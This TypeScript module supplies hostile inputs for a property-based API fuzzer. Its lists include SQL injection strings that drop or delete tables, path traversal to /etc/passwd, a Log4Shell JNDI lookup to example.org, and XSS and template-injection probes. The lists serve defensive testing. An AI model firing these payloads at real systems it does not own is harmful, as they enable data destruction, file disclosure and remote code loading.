/** Hostile values shared by every request part of the fuzzer, and how they are encoded. */
import fc from 'fast-check';

// Encoding helpers.

/** Percent-encodes the UTF-8 bytes of s (lone surrogates become U+FFFD, as any client would send). */
export function pct(s: string): string {
  let out = '';
  for (const byte of Buffer.from(s, 'utf8')) {
    const ch = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(ch) ? ch : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** What a header value can be on the wire: the UTF-8 bytes read as latin1, without control characters. */
export function headerSafe(s: string): string {
  return Array.from(Buffer.from(s, 'utf8').toString('latin1'))
    .filter((ch) => {
      const code = ch.charCodeAt(0);
      return code === 9 || (code >= 0x20 && code !== 0x7f);
    })
    .join('');
}

export const b64url = (s: string) => Buffer.from(s, 'utf8').toString('base64url');

// ---------------------------------------------------------------------------------------------
// Hostile values shared by every request part.

/** Long runs of one character, by length, so that a failure shrinks to the shortest that fails. */
export const longRun = (ch: string, max: number) => fc.integer({ min: 1, max }).map((n) => ch.repeat(n));

const HOSTILE_STRINGS = [
  '',
  ' ',
  '   ',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '\u0000',
  'a\u0000b',
  "' OR 1=1 --",
  '" OR ""="',
  '1; DROP TABLE organizations; --',
  "'); DELETE FROM api_keys; --",
  '%00',
  '%',
  '%s%s%s%n',
  '${jndi:ldap://example.org/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '1e309',
  '-1e309',
  '99999999999999999999',
  '9007199254740993',
  '-1',
  '0',
  '-0',
  '1.5',
  '0x10',
  '1e2',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  '🏳️‍🌈👩‍👩‍👧‍👦🇩🇪',
  'مرحبا بالعالم',
  'שלום\u200f',
  '\u202eevil\u202c',
  'e\u0301\u0301\u0301\u0301',
  'Z̸̡̛͎a̷̛l̶g̵o̴',
  '\ud800',
  '\udfff',
  'a\ud83db',
  '\ufeff',
  '\u2028\u2029',
  'İıßﬁ',
  '\t\r\n',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: longRun('x', 12_000) },
  { weight: 1, arbitrary: longRun('Ω', 3000) },
  { weight: 1, arbitrary: fc.integer().map(String) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.bigInt().map(String) },
);

/** Path segments sent as they are, not percent-encoded: traversal, broken escapes, NUL. */
export const RAW_SEGMENTS = [
  '%00',
  '%',
  '%ZZ',
  '%E0%A4%A',
  '%C0%AE%C0%AE',
  '%FF%FE',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%2F..%2Fetc%2Fpasswd',
  '../../etc/passwd',
  '..',
  '.',
  '%2F',
  ';x=1',
  'a;b',
  '~',
  "!$&'()*+,;=:@",
];

/**
 * The values a field can take: plausible ones that reach the handler, and wrong ones. Bodies use
 * mostly valid values (one field is made wrong on purpose elsewhere), query strings more wrong ones.
 */
export interface Domain {
  valid: fc.Arbitrary<string>;
  invalid: fc.Arbitrary<string>;
}

export const mix = (d: Domain, validWeight: number): fc.Arbitrary<string> =>
  fc.oneof({ withCrossShrink: true }, { weight: validWeight, arbitrary: d.valid }, { weight: 1, arbitrary: d.invalid });

export const withHostile = (bad: fc.Arbitrary<string>) =>
  fc.oneof({ weight: 2, arbitrary: bad }, { weight: 1, arbitrary: hostileString });
